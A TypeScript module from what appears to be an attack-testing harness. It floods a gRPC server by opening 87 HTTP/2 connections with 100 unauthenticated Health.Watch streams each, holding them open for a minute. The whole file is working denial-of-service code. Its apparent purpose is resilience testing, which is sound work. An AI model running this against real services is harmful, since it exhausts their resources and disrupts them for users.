// Thousands of Health.Watch streams without credentials, held open.
import { type Attack, Counts, pause, pick } from "../support/attack.js";
import { dataFrame, FRAME, type FrameConnection, grpcFields, headersFrame, openFrames } from "../support/frames.js";
import { frame } from "../support/grpc.js";

const CONNECTIONS = 87;
const STREAMS = 100;
const OPEN_EVERY_MS = 1;

export const attack: Attack = {
  async run({ url, addresses }, stop) {
    const counts = new Counts();
    const connections: FrameConnection[] = [];
    for (let i = 0; i < CONNECTIONS && !stop.aborted; i++) {
      const connection = openFrames(url, pick(addresses, i));
      connections.push(connection);
      const opened = await connection.ready.then(
        () => true,
        () => false,
      );
      if (!opened) {
        counts.add("not connected");
        continue;
      }
      const fields = grpcFields(url, "/grpc.health.v1.Health/Watch");
      const open = Array.from({ length: STREAMS }, (_, j) => [
        headersFrame(1 + 2 * j, fields),
        dataFrame(1 + 2 * j, frame(new Uint8Array()), true),
      ]);
      connection.send(...open.flat());
      counts.add("watchers", STREAMS);
      await pause(OPEN_EVERY_MS, stop);
    }
    await pause(60_000, stop);
    for (const connection of connections) {
      counts.add("answers", connection.received[FRAME.data] ?? 0);
      connection.close();
    }
    return counts;
  },
};
